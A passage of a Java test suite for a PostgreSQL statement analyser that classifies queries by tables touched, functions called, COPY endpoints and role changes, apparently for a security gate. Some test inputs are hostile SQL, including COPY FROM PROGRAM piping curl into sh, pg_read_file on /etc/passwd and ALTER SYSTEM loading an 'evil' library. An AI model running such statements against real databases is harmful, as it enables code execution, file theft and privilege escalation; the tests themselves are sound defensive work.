package io.pgwarden.analysis;

import static io.pgwarden.analysis.Access.READ;
import static io.pgwarden.analysis.Access.WRITE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.pgwarden.analysis.StatementAnalysis.Flag;
import io.pgwarden.analysis.StatementDetail.CopyEndpoint;
import io.pgwarden.analysis.StatementDetail.SettingChange;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentHashMap;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class StatementAnalyzerTest {
    static StatementAnalyzer analyzer;
    /** Every (node type, field) the walker asked for while these tests ran. */
    static final Map<String, Set<String>> fieldsRead = new ConcurrentHashMap<>();

    @BeforeAll
    static void load() throws Exception {
        analyzer = StatementAnalyzer.create();
        ParseNode.fieldTrace = (type, field) -> fieldsRead.computeIfAbsent(type, t -> ConcurrentHashMap.newKeySet()).add(field);
    }

    /**
     * Every field name the walker asks a node for exists in that node's message in
     * pg_query.proto (as libpg_query's JSON names it; the list is extracted from
     * libpg-query-dev's pg_query.proto). A misspelt name is no bypass (the real field goes
     * unread and the node is refused) but would refuse statements PostgreSQL accepts.
     */
    @AfterAll
    static void everyFieldTheWalkerReadsIsInPgQueryProto() throws IOException {
        ParseNode.fieldTrace = null;
        Map<String, Set<String>> proto = new HashMap<>();
        try (InputStream in = StatementAnalyzerTest.class.getResourceAsStream("pg_query-15-fields.txt")) {
            for (String line : new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n")) {
                if (!line.startsWith("#") && !line.isBlank()) {
                    int colon = line.indexOf(':');
                    String rest = line.substring(colon + 1).trim();
                    proto.put(line.substring(0, colon), Set.of(rest.isEmpty() ? new String[0] : rest.split(" ")));
                }
            }
        }
        Set<String> unknown = new TreeSet<>();
        fieldsRead.forEach((type, fields) -> fields.stream()
                .filter(f -> !proto.getOrDefault(type, Set.of()).contains(f))
                .forEach(f -> unknown.add(type + "." + f)));
        assertThat(unknown).as("fields the walker reads that pg_query.proto does not have").isEmpty();
        assertThat(fieldsRead).containsKeys("SelectStmt", "RangeVar", "FuncCall", "CreateStmt", "VariableSetStmt");
    }

    static StatementAnalysis one(String sql) throws AnalysisException {
        List<AnalyzedStatement> statements = analyzer.analyze(sql);
        assertThat(statements).as(sql).hasSize(1);
        return statements.getFirst().analysis();
    }

    static RelationRef rel(String qualified, Access access) {
        int dot = qualified.indexOf('.');
        return dot < 0 ? new RelationRef(null, qualified, access)
                : new RelationRef(qualified.substring(0, dot), qualified.substring(dot + 1), access);
    }

    static FunctionRef fn(String qualified) {
        int dot = qualified.indexOf('.');
        return dot < 0 ? new FunctionRef(null, qualified) : new FunctionRef(qualified.substring(0, dot), qualified.substring(dot + 1));
    }

    static UnanalyzableStatementException refused(String sql) {
        try {
            analyzer.analyze(sql);
        } catch (UnanalyzableStatementException e) {
            return e;
        } catch (AnalysisException e) {
            throw new AssertionError("expected a refusal, got " + e, e);
        }
        throw new AssertionError("expected a refusal: " + sql);
    }

    @Nested
    class Select {
        @Test
        void relationsAreReadWithTheSchemaAsWritten() throws Exception {
            StatementAnalysis a = one("SELECT a, b FROM public.customers c JOIN orders o ON o.cid = c.id WHERE c.id = $1");
            assertThat(a.command()).isEqualTo(Command.SELECT);
            assertThat(a.commands()).containsExactly(Command.SELECT);
            assertThat(a.relations()).containsExactly(rel("public.customers", READ), rel("orders", READ));
            assertThat(a.flags()).isEmpty();
            assertThat(a.writes()).isFalse();
        }

        @Test
        void identifiersAreFoldedAndUnquotedAsPostgresqlDoes() throws Exception {
            assertThat(one("SeLeCt * FrOm MySchema.MyTable").relations()).containsExactly(rel("myschema.mytable", READ));
            assertThat(one("SELECT * FROM \"Public\".\"T\"").relations()).containsExactly(new RelationRef("Public", "T", READ));
            assertThat(one("SELECT * FROM U&\"d\\0061t\\+000061\"").relations()).containsExactly(rel("data", READ));
            assertThat(one("SELECT * FROM \"we\"\"ird\"").relations()).containsExactly(rel("we\"ird", READ));
        }

        @Test
        void subqueriesAnywhereAreFollowed() throws Exception {
            StatementAnalysis a = one("""
                    SELECT (SELECT max(x) FROM s1), f(ARRAY(SELECT y FROM s2))
                    FROM t, LATERAL (SELECT * FROM s3 WHERE s3.id = t.id) l
                    WHERE EXISTS (SELECT 1 FROM s4) AND t.a IN (SELECT a FROM s5)
                    GROUP BY 1 HAVING count(*) > (SELECT 1 FROM s6)
                    ORDER BY (SELECT 1 FROM s7) LIMIT (SELECT 1 FROM s8)""");
            assertThat(a.relations()).extracting(RelationRef::name)
                    .containsExactlyInAnyOrder("s1", "s2", "t", "s3", "s4", "s5", "s6", "s7", "s8");
            assertThat(a.functions()).containsExactlyInAnyOrder(fn("max"), fn("f"), fn("count"));
        }

        @Test
        void setOperationsValuesAndJoins() throws Exception {
            assertThat(one("SELECT a FROM t1 UNION SELECT a FROM t2 EXCEPT (SELECT a FROM t3) ORDER BY 1").relations())
                    .extracting(RelationRef::name).containsExactly("t1", "t2", "t3");
            assertThat(one("VALUES (1, 'a'), (2, (SELECT b FROM t))").relations()).containsExactly(rel("t", READ));
            assertThat(one("SELECT * FROM a NATURAL JOIN b LEFT JOIN (c CROSS JOIN d) ON true JOIN e USING (id)").relations())
                    .extracting(RelationRef::name).containsExactly("a", "b", "c", "d", "e");
            assertThat(one("TABLE s.t").relations()).containsExactly(rel("s.t", READ));
        }

        @Test
        void forUpdateIsLocking() throws Exception {
            StatementAnalysis a = one("SELECT * FROM t WHERE id = 1 FOR UPDATE OF t SKIP LOCKED");
            assertThat(a.has(Flag.LOCKING)).isTrue();
            assertThat(a.relations()).containsExactly(rel("t", READ));
            assertThat(one("SELECT * FROM t FOR KEY SHARE").has(Flag.LOCKING)).isTrue();
        }

        @Test
        void selectIntoCreatesATable() throws Exception {
            StatementAnalysis a = one("SELECT * INTO new_t FROM t");
            assertThat(a.command()).isEqualTo(Command.DDL);
            assertThat(a.commands()).containsExactlyInAnyOrder(Command.SELECT, Command.DDL);
            assertThat(a.relations()).containsExactlyInAnyOrder(rel("new_t", WRITE), rel("t", READ));
            assertThat(a.writes()).isTrue();
        }

        @Test
        void functionsInFromAndTablesample() throws Exception {
            StatementAnalysis a = one("SELECT * FROM generate_series(1, 3) g, ROWS FROM (s.f(1), g(2) AS (a int)) r, t TABLESAMPLE system (10)");
            assertThat(a.functions()).containsExactly(fn("generate_series"), fn("s.f"), fn("g"));
            assertThat(a.relations()).containsExactly(rel("t", READ));
        }

        @Test
        void windowsAggregatesAndExpressions() throws Exception {
            StatementAnalysis a = one("""
                    SELECT string_agg(x, ',' ORDER BY y) FILTER (WHERE z > lower('A')) OVER w,
                           CASE WHEN a IS NULL THEN coalesce(b, c) ELSE greatest(d, e) END,
                           x BETWEEN 1 AND 2, x IS DISTINCT FROM y, ROW(1, 2), (t.arr)[1:2], j -> 'k',
                           '1 day'::interval, int '1', CAST(x AS text), x COLLATE "C", current_user,
                           EXTRACT(year FROM now()), x IN (1, 2), x = ANY (ARRAY[1, 2])
                    FROM t WINDOW w AS (PARTITION BY abs(a) ORDER BY b ROWS BETWEEN 1 PRECEDING AND CURRENT ROW)""");
            // COALESCE, GREATEST, LEAST and NULLIF are expressions in PostgreSQL's grammar, not calls.
            assertThat(a.functions()).containsExactlyInAnyOrder(fn("string_agg"), fn("lower"), fn("abs"), fn("now"),
                    fn("pg_catalog.extract"));
            assertThat(a.relations()).containsExactly(rel("t", READ));
        }

        @Test
        void castsAndOperatorsAreNotFunctionCalls() throws Exception {
            assertThat(one("SELECT '1'::int + 2, int '3', CAST('4' AS bigint), 1 OPERATOR(pg_catalog.+) 2").functions()).isEmpty();
        }

        @Test
        void setConfigIsReportedAsAFunction() throws Exception {
            assertThat(one("SELECT set_config('search_path', 'evil', false)").functions())
                    .containsExactly(fn("set_config"));
            assertThat(one("SELECT pg_catalog.set_config('role', 'admin', true)").functions())
                    .containsExactly(fn("pg_catalog.set_config"));
        }
    }

    @Nested
    class CommonTableExpressions {
        @Test
        void aCteShadowsARelationOfTheSameNameButItsBodyCounts() throws Exception {
            StatementAnalysis a = one("WITH secrets AS (SELECT * FROM public_data) SELECT * FROM secrets");
            assertThat(a.relations()).containsExactly(rel("public_data", READ));
        }

        @Test
        void aQualifiedNameIsNeverACte() throws Exception {
            assertThat(one("WITH t AS (SELECT 1) SELECT * FROM t, public.t").relations()).containsExactly(rel("public.t", READ));
        }

        @Test
        void aNonRecursiveCteDoesNotSeeItselfOrLaterSiblings() throws Exception {
            // In t's own body, t is the table t; in a's body, b is the table b.
            assertThat(one("WITH t AS (SELECT * FROM t) SELECT * FROM t").relations()).containsExactly(rel("t", READ));
            assertThat(one("WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM a, b").relations())
                    .containsExactly(rel("b", READ));
        }

        @Test
        void recursiveCtesSeeThemselves() throws Exception {
            assertThat(one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r")
                    .relations()).isEmpty();
        }

        @Test
        void aCteIsVisibleInNestedSubqueriesButNotOutsideItsStatement() throws Exception {
            assertThat(one("WITH c AS (SELECT 1) SELECT * FROM t WHERE EXISTS (SELECT * FROM c)").relations())
                    .containsExactly(rel("t", READ));
            assertThat(one("SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) s, t").relations())
                    .containsExactly(rel("t", READ));
        }

        @Test
        void aDataModifyingCteMakesTheStatementAWrite() throws Exception {
            StatementAnalysis a = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
            assertThat(a.command()).isEqualTo(Command.DELETE);
            assertThat(a.commands()).containsExactlyInAnyOrder(Command.SELECT, Command.DELETE);
            assertThat(a.relations()).containsExactly(rel("t", WRITE));
            assertThat(a.flags()).contains(Flag.DATA_MODIFYING_CTE, Flag.NO_WHERE);
            assertThat(a.writes()).isTrue();
        }

        @Test
        void aDmlTargetIsNeverACte() throws Exception {
            StatementAnalysis a = one("WITH t AS (SELECT 1 AS x) INSERT INTO t SELECT x FROM t");
            assertThat(a.relations()).containsExactly(rel("t", WRITE));
        }
    }

    @Nested
    class Dml {
        @Test
        void insertWithSelectOnConflictAndReturning() throws Exception {
            StatementAnalysis a = one("INSERT INTO s.t (a, b) SELECT x, nextval('q') FROM src "
                    + "ON CONFLICT (a) DO UPDATE SET b = excluded.b WHERE t.c > (SELECT 1 FROM lim) RETURNING *");
            assertThat(a.command()).isEqualTo(Command.INSERT);
            assertThat(a.commands()).containsExactlyInAnyOrder(Command.INSERT, Command.UPDATE);
            // nextval('q') advances the sequence q: a write, named in a string.
            assertThat(a.relations()).containsExactly(rel("s.t", WRITE), rel("q", WRITE), rel("src", READ), rel("lim", READ));
            assertThat(a.functions()).containsExactly(fn("nextval"));
            assertThat(one("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING").commands()).containsExactly(Command.INSERT);
            assertThat(one("INSERT INTO t DEFAULT VALUES").relations()).containsExactly(rel("t", WRITE));
        }

        @Test
        void updateWithFromAndWithoutWhere() throws Exception {
            StatementAnalysis a = one("UPDATE t SET a = s.a, (b, c) = (SELECT b, c FROM u) FROM s WHERE t.id = s.id");
            assertThat(a.relations()).containsExactly(rel("t", WRITE), rel("u", READ), rel("s", READ));
            assertThat(a.has(Flag.NO_WHERE)).isFalse();
            assertThat(one("UPDATE t SET a = 1").has(Flag.NO_WHERE)).isTrue();
            assertThat(one("UPDATE t SET a = 1 WHERE CURRENT OF c").has(Flag.NO_WHERE)).isFalse();
        }

        @Test
        void deleteWithUsingAndWithoutWhere() throws Exception {
            StatementAnalysis a = one("DELETE FROM t USING u, v WHERE t.id = u.id");
            assertThat(a.command()).isEqualTo(Command.DELETE);
            assertThat(a.relations()).containsExactly(rel("t", WRITE), rel("u", READ), rel("v", READ));
            assertThat(a.has(Flag.NO_WHERE)).isFalse();
            StatementAnalysis all = one("DELETE FROM t");
            assertThat(all.has(Flag.NO_WHERE)).isTrue();
            assertThat(all.flags()).doesNotContain(Flag.UTILITY);
        }

        @Test
        void mergeTargetSourceAndActions() throws Exception {
            StatementAnalysis a = one("MERGE INTO t USING (SELECT * FROM s) src ON t.id = src.id "
                    + "WHEN MATCHED AND src.gone THEN DELETE WHEN MATCHED THEN UPDATE SET a = src.a "
                    + "WHEN NOT MATCHED THEN INSERT (id, a) VALUES (src.id, f(src.a))");
            assertThat(a.command()).isEqualTo(Command.MERGE);
            assertThat(a.commands()).containsExactlyInAnyOrder(Command.MERGE, Command.DELETE, Command.UPDATE, Command.INSERT);
            assertThat(a.relations()).containsExactly(rel("t", WRITE), rel("s", READ));
            assertThat(a.functions()).containsExactly(fn("f"));
        }

        @Test
        void truncateLists() throws Exception {
            StatementAnalysis a = one("TRUNCATE a, s.b RESTART IDENTITY CASCADE");
            assertThat(a.command()).isEqualTo(Command.TRUNCATE);
            assertThat(a.relations()).containsExactly(rel("a", WRITE), rel("s.b", WRITE));
        }
    }

    @Nested
    class Copy {
        @Test
        void copyToTheClientReadsAndFromTheClientWrites() throws Exception {
            StatementAnalysis out = one("COPY s.t (a, b) TO STDOUT WITH (FORMAT csv)");
            assertThat(out.command()).isEqualTo(Command.COPY_TO);
            assertThat(out.relations()).containsExactly(rel("s.t", READ));
            assertThat(out.detail()).isEqualTo(new StatementDetail.Copy(false, CopyEndpoint.CLIENT, "", "csv", java.util.Optional.empty()));
            assertThat(one("COPY t TO STDOUT BINARY").detail()).isEqualTo(new StatementDetail.Copy(false, CopyEndpoint.CLIENT, "",
                    "binary", java.util.Optional.empty()));
            StatementAnalysis in = one("COPY t FROM STDIN WHERE a > f(1)");
            assertThat(in.command()).isEqualTo(Command.COPY_FROM);
            assertThat(in.relations()).containsExactly(rel("t", WRITE));
            assertThat(in.functions()).containsExactly(fn("f"));
        }

        @Test
        void copyOfAQueryAnalysesTheQuery() throws Exception {
            StatementAnalysis a = one("COPY (SELECT * FROM secrets) TO STDOUT");
            assertThat(a.command()).isEqualTo(Command.COPY_TO);
            assertThat(a.commands()).containsExactlyInAnyOrder(Command.COPY_TO, Command.SELECT);
            assertThat(a.relations()).containsExactly(rel("secrets", READ));
            StatementAnalysis del = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
            assertThat(del.commands()).contains(Command.DELETE);
            assertThat(del.relations()).containsExactly(rel("t", WRITE));
        }

        @Test
        void programsAndServerFilesAreSeparateCommands() throws Exception {
            StatementAnalysis program = one("COPY t FROM PROGRAM 'curl http://x | sh'");
            assertThat(program.commands()).containsExactlyInAnyOrder(Command.COPY_FROM, Command.COPY_PROGRAM);
            assertThat(program.has(Flag.COPY_PROGRAM)).isTrue();
            assertThat(program.detail()).isEqualTo(new StatementDetail.Copy(true, CopyEndpoint.PROGRAM, "curl http://x | sh",
                    "text", java.util.Optional.empty()));
            StatementAnalysis file = one("COPY (SELECT 1) TO '/tmp/x'");
            assertThat(file.commands()).contains(Command.COPY_TO, Command.COPY_FILE);
            assertThat(file.has(Flag.COPY_FILE)).isTrue();
        }
    }

    @Nested
    class Explain {
        @Test
        void plainExplainOfAWriteIsNotAWrite() throws Exception {
            StatementAnalysis a = one("EXPLAIN DELETE FROM t WHERE id IN (SELECT id FROM u)");
            assertThat(a.command()).isEqualTo(Command.EXPLAIN);
            assertThat(a.commands()).containsExactly(Command.EXPLAIN);
            assertThat(a.relations()).containsExactly(rel("t", READ), rel("u", READ));
            assertThat(a.writes()).isFalse();
            assertThat(((StatementDetail.Explain) a.detail()).statement().command()).isEqualTo(Command.DELETE);
        }

        @Test
        void explainAnalyzeRunsTheStatement() throws Exception {
            for (String sql : List.of("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN (ANALYZE) DELETE FROM t",
                    "EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM t", "EXPLAIN (ANALYZE 1) DELETE FROM t",
                    "EXPLAIN (ANALYSE on) DELETE FROM t")) {
                StatementAnalysis a = one(sql);
                assertThat(a.command()).as(sql).isEqualTo(Command.EXPLAIN);
                assertThat(a.commands()).as(sql).contains(Command.DELETE);
                assertThat(a.relations()).as(sql).containsExactly(rel("t", WRITE));
                assertThat(a.has(Flag.NO_WHERE)).as(sql).isTrue();
            }
            assertThat(one("EXPLAIN (ANALYZE off) DELETE FROM t").writes()).isFalse();
            assertThat(one("EXPLAIN (ANALYZE false) DELETE FROM t").writes()).isFalse();
        }

        @Test
        void explainExecuteNamesThePreparedStatement() throws Exception {
            assertThat(one("EXPLAIN ANALYZE EXECUTE p(1)").preparedStatement()).contains("p");
        }
    }

    @Nested
    class PreparedStatementsAndCursors {
        @Test
        void prepareCarriesItsStatementAndListsWhatItNeeds() throws Exception {
            StatementAnalysis a = one("PREPARE del (int) AS DELETE FROM t WHERE id = $1");
            assertThat(a.command()).isEqualTo(Command.PREPARE);
            assertThat(a.commands()).containsExactlyInAnyOrder(Command.PREPARE, Command.DELETE);
            assertThat(a.relations()).containsExactly(rel("t", WRITE));
            StatementDetail.Prepare p = (StatementDetail.Prepare) a.detail();
            assertThat(p.name()).isEqualTo("del");
            assertThat(p.statement().command()).isEqualTo(Command.DELETE);
        }

        @Test
        void executeNamesThePreparedStatementAndItsArguments() throws Exception {
            StatementAnalysis a = one("EXECUTE del(1, pg_read_file('/etc/passwd'))");
            assertThat(a.command()).isEqualTo(Command.EXECUTE);
            assertThat(a.detail()).isEqualTo(new StatementDetail.Execute("del"));
            assertThat(a.preparedStatement()).contains("del");
            assertThat(a.functions()).containsExactly(fn("pg_read_file"));
            assertThat(one("CREATE TABLE x AS EXECUTE p").preparedStatement()).contains("p");
        }

        @Test
        void deallocate() throws Exception {
            assertThat(one("DEALLOCATE p").detail()).isEqualTo(new StatementDetail.Deallocate(java.util.Optional.of("p")));
            assertThat(one("DEALLOCATE ALL").detail()).isEqualTo(new StatementDetail.Deallocate(java.util.Optional.empty()));
        }

        @Test
        void declareCarriesItsQueryFetchAndCloseTheCursor() throws Exception {
            StatementAnalysis a = one("DECLARE c BINARY CURSOR WITH HOLD FOR SELECT * FROM secrets");
            assertThat(a.command()).isEqualTo(Command.DECLARE);
            assertThat(a.relations()).containsExactly(rel("secrets", READ));
            StatementDetail.Declare d = (StatementDetail.Declare) a.detail();
            assertThat(d.cursor()).isEqualTo("c");
            assertThat(d.withHold()).isTrue();
            assertThat(d.binary()).isTrue();
            assertThat(d.query().relations()).containsExactly(rel("secrets", READ));
            assertThat(one("FETCH 10 FROM c").detail()).isEqualTo(new StatementDetail.Fetch("c", false));
            assertThat(one("MOVE LAST IN c").detail()).isEqualTo(new StatementDetail.Fetch("c", true));
            assertThat(one("CLOSE c").detail()).isEqualTo(new StatementDetail.Close(java.util.Optional.of("c")));
            assertThat(one("CLOSE ALL").detail()).isEqualTo(new StatementDetail.Close(java.util.Optional.empty()));
        }
    }

    @Nested
    class Settings {
        @Test
        void searchPathThroughSetSetLocalResetAndSetSchema() throws Exception {
            StatementAnalysis a = one("SET search_path = \"$user\", public");
            assertThat(a.command()).isEqualTo(Command.SET);
            assertThat(a.detail()).isEqualTo(new StatementDetail.Setting(SettingChange.SET, "search_path",
                    List.of("$user", "public"), false));
            assertThat(one("SET LOCAL search_path TO 'a,b'").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.SET, "search_path", List.of("a,b"), true));
            assertThat(one("SET SCHEMA 'app'").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.SET, "search_path", List.of("app"), false));
            StatementAnalysis reset = one("RESET search_path");
            assertThat(reset.command()).isEqualTo(Command.RESET);
            assertThat(reset.detail()).isEqualTo(new StatementDetail.Setting(SettingChange.RESET, "search_path", List.of(), false));
            assertThat(one("SET search_path TO DEFAULT").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.SET_DEFAULT, "search_path", List.of(), false));
            assertThat(one("SET \"Search_Path\" = x").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.SET, "search_path", List.of("x"), false));
        }

        @Test
        void otherValuesAsWritten() throws Exception {
            assertThat(one("SET statement_timeout = 5000").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.SET, "statement_timeout", List.of("5000"), false));
            assertThat(one("SET TIME ZONE INTERVAL '+1' HOUR").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.SET, "timezone", List.of("+1"), false));
            assertThat(one("SET NAMES 'LATIN1'").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.SET, "client_encoding", List.of("LATIN1"), false));
            assertThat(one("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.SET_MULTI, "transaction",
                            List.of("transaction_isolation=serializable"), false));
            assertThat(one("SHOW search_path").detail()).isEqualTo(new StatementDetail.Show("search_path"));
            assertThat(one("SHOW ALL").command()).isEqualTo(Command.SHOW);
        }

        @Test
        void everyWayToChangeTheRoleIsARoleSwitch() throws Exception {
            for (String sql : List.of("SET ROLE admin", "SET SESSION ROLE admin", "SET LOCAL ROLE admin", "SET \"Role\" TO admin",
                    "SET role = 'admin'", "SET SESSION AUTHORIZATION admin", "SET SESSION AUTHORIZATION DEFAULT",
                    "RESET ROLE", "RESET SESSION AUTHORIZATION", "RESET ALL", "SET ROLE NONE", "DISCARD ALL")) {
                assertThat(one(sql).commands()).as(sql).contains(Command.ROLE_SWITCH);
            }
            assertThat(one("SET LOCAL \"ROLE\" TO admin").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.SET, "role", List.of("admin"), true));
            assertThat(one("RESET ALL").detail())
                    .isEqualTo(new StatementDetail.Setting(SettingChange.RESET_ALL, "", List.of(), false));
        }

        @Test
        void alterSystem() throws Exception {
            StatementAnalysis a = one("ALTER SYSTEM SET shared_preload_libraries = 'evil'");
            assertThat(a.command()).isEqualTo(Command.ALTER_SYSTEM);
            assertThat(a.detail()).isEqualTo(new StatementDetail.Setting(SettingChange.SET, "shared_preload_libraries",
                    List.of("evil"), false));
        }
    }

    @Nested
    class Utility {
        @Test
        void transactionControl() throws Exception {
            for (String sql : List.of("BEGIN", "BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY", "START TRANSACTION", "COMMIT",
                    "END", "ROLLBACK", "ABORT", "SAVEPOINT s", "RELEASE SAVEPOINT s", "ROLLBACK TO s", "PREPARE TRANSACTION 'x'",
                    "COMMIT PREPARED 'x'", "ROLLBACK PREPARED 'x'", "COMMIT AND CHAIN", "SET CONSTRAINTS ALL DEFERRED")) {
                StatementAnalysis a = one(sql);
                assertThat(a.command()).as(sql).isEqualTo(Command.TRANSACTION);
                assertThat(a.flags()).as(sql).contains(Flag.TRANSACTION_CONTROL, Flag.UTILITY);
            }
            assertThat(one("SAVEPOINT s1").detail())
                    .isEqualTo(new StatementDetail.Transaction(StatementDetail.TransactionKind.SAVEPOINT, "s1"));
        }

        @Test
        void doAndCall() throws Exception {
            StatementAnalysis d = one("DO $$ BEGIN PERFORM pg_read_file('x'); END $$");
            assertThat(d.command()).isEqualTo(Command.DO);
            assertThat(d.detail()).isEqualTo(new StatementDetail.Do("plpgsql"));
            assertThat(d.functions()).isEmpty(); // the body is not analysed: policy decides on DO itself
            assertThat(one("DO LANGUAGE plperlu 'system(1)'").detail()).isEqualTo(new StatementDetail.Do("plperlu"));
            StatementAnalysis c = one("CALL s.proc(1, a => f(2))");
            assertThat(c.command()).isEqualTo(Command.CALL);
            assertThat(c.functions()).containsExactly(fn("s.proc"), fn("f"));
        }

        @Test
        void listenNotifyUnlisten() throws Exception {
            assertThat(one("LISTEN ch").command()).isEqualTo(Command.LISTEN);
            assertThat(one("NOTIFY ch, 'hello'").detail())
                    .isEqualTo(new StatementDetail.Channel("ch", java.util.Optional.of("hello")));
            assertThat(one("UNLISTEN *").detail()).isEqualTo(new StatementDetail.Channel("*", java.util.Optional.empty()));
            assertThat(one("SELECT pg_notify('ch', 'x')").functions()).containsExactly(fn("pg_notify"));
        }

        @Test
        void lockModesFollowTheirPrivileges() throws Exception {
            StatementAnalysis share = one("LOCK TABLE a, s.b IN ACCESS SHARE MODE");
            assertThat(share.command()).isEqualTo(Command.LOCK);
            assertThat(share.has(Flag.LOCKING)).isTrue();
            assertThat(share.relations()).containsExactly(rel("a", READ), rel("s.b", READ));
            assertThat(one("LOCK t").relations()).containsExactly(rel("t", WRITE));
            assertThat(one("LOCK t IN ROW EXCLUSIVE MODE NOWAIT").relations()).containsExactly(rel("t", WRITE));
        }

        @Test
        void maintenance() throws Exception {
            StatementAnalysis v = one("VACUUM (FULL, ANALYZE) t (a), s.u");
            assertThat(v.command()).isEqualTo(Command.VACUUM);
            assertThat(v.relations()).containsExactly(rel("t", WRITE), rel("s.u", WRITE));
            StatementAnalysis all = one("ANALYZE");
            assertThat(all.command()).isEqualTo(Command.ANALYZE);
            assertThat(all.has(Flag.ALL_RELATIONS)).isTrue();
            assertThat(one("ANALYZE t").relations()).containsExactly(rel("t", READ));
            assertThat(one("CLUSTER t USING i").command()).isEqualTo(Command.MAINTENANCE);
            assertThat(one("REINDEX TABLE t").relations()).containsExactly(rel("t", WRITE));
            assertThat(one("REINDEX DATABASE app").has(Flag.ALL_RELATIONS)).isTrue();
            assertThat(one("REFRESH MATERIALIZED VIEW CONCURRENTLY mv").relations()).containsExactly(rel("mv", WRITE));
            assertThat(one("CHECKPOINT").command()).isEqualTo(Command.MAINTENANCE);
            assertThat(one("LOAD 'auto_explain'").command()).isEqualTo(Command.LOAD);
        }

        @Test
        void discard() throws Exception {
            assertThat(one("DISCARD PLANS").commands()).containsExactly(Command.DISCARD);
            assertThat(one("DISCARD ALL").commands()).containsExactlyInAnyOrder(Command.DISCARD, Command.ROLE_SWITCH);
            assertThat(one("DISCARD TEMP").detail()).isEqualTo(new StatementDetail.Discard(StatementDetail.DiscardTarget.TEMP));
        }
    }

    @Nested
    class Ddl {
        @Test
        void createTableWithDefaultsChecksAndReferences() throws Exception {
            StatementAnalysis a = one("""
                    CREATE TABLE s.t (
                      id int PRIMARY KEY DEFAULT nextval('q'),
                      b text CHECK (length(b) > f(1)) REFERENCES o(x),
                      c int GENERATED ALWAYS AS (g(id)) STORED,
                      LIKE tmpl,
                      CONSTRAINT ck CHECK (h(id) > 0),
                      EXCLUDE USING gist (c WITH &&)
                    ) INHERITS (parent)""");
            assertThat(a.command()).isEqualTo(Command.DDL);
            assertThat(a.flags()).contains(Flag.DDL, Flag.UTILITY);
            assertThat(a.relations()).containsExactly(rel("s.t", WRITE), rel("q", WRITE), rel("o", READ), rel("tmpl", READ),
                    rel("parent", WRITE));
            assertThat(a.functions()).containsExactly(fn("nextval"), fn("length"), fn("f"), fn("g"), fn("h"));
        }

        @Test
        void temporaryTablesAreInPgTemp() throws Exception {
            assertThat(one("CREATE TEMP TABLE x (a int)").relations()).containsExactly(rel("pg_temp.x", WRITE));
            StatementAnalysis a = one("CREATE TEMP TABLE tt AS SELECT * FROM t WITH NO DATA");
            assertThat(a.relations()).containsExactlyInAnyOrder(rel("pg_temp.tt", WRITE), rel("t", READ));
            assertThat(a.detail()).isInstanceOf(StatementDetail.CreateAs.class);
            assertThat(((StatementDetail.CreateAs) a.detail()).withData()).isFalse();
            assertThat(a.commands()).containsExactly(Command.DDL); // WITH NO DATA: the query does not run
            assertThat(one("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t").commands())
                    .containsExactlyInAnyOrder(Command.DDL, Command.SELECT);
        }

        @Test
        void partitions() throws Exception {
            assertThat(one("CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (MINVALUE) TO (10)").relations())
                    .containsExactly(rel("p1", WRITE), rel("p", WRITE));
            assertThat(one("CREATE TABLE p (a int, b date) PARTITION BY RANGE (a, date_trunc('day', b))").functions())
                    .containsExactly(fn("date_trunc"));
        }

        @Test
        void alterTable() throws Exception {
            StatementAnalysis a = one("ALTER TABLE t ADD COLUMN c int DEFAULT f(), ALTER COLUMN d SET DEFAULT g(), "
                    + "ALTER COLUMN e TYPE int USING h(e), ADD CONSTRAINT fk FOREIGN KEY (x) REFERENCES o, "
                    + "INHERIT q, SET (fillfactor = 70), OWNER TO r");
            assertThat(a.relations()).containsExactly(rel("t", WRITE), rel("o", READ), rel("q", WRITE));
            assertThat(a.functions()).containsExactly(fn("f"), fn("g"), fn("h"));
            assertThat(one("ALTER TABLE p ATTACH PARTITION p2 FOR VALUES IN (1)").relations())
                    .containsExactly(rel("p", WRITE), rel("p2", WRITE));
            assertThat(one("ALTER TABLE t RENAME TO u").relations()).containsExactly(rel("t", WRITE), rel("u", WRITE));
            assertThat(one("ALTER TABLE s.t RENAME COLUMN a TO b").relations()).containsExactly(rel("s.t", WRITE));
            assertThat(one("ALTER TABLE t SET SCHEMA archive").relations()).containsExactly(rel("t", WRITE), rel("archive.t", WRITE));
        }

        @Test
        void dropNamesRelationsInUntaggedLists() throws Exception {
            StatementAnalysis a = one("DROP TABLE a, s.b CASCADE");
            assertThat(a.command()).isEqualTo(Command.DDL);
            assertThat(a.relations()).containsExactly(rel("a", WRITE), rel("s.b", WRITE));
            assertThat(one("DROP VIEW IF EXISTS v").relations()).containsExactly(rel("v", WRITE));
            assertThat(one("DROP INDEX CONCURRENTLY s.i").relations()).containsExactly(rel("s.i", WRITE));
            assertThat(one("DROP TRIGGER tr ON s.t").relations()).containsExactly(rel("s.t", WRITE));
            assertThat(one("DROP FUNCTION f(int), g").relations()).isEmpty();
            assertThat(one("DROP SCHEMA s CASCADE").command()).isEqualTo(Command.DDL);
        }

        @Test
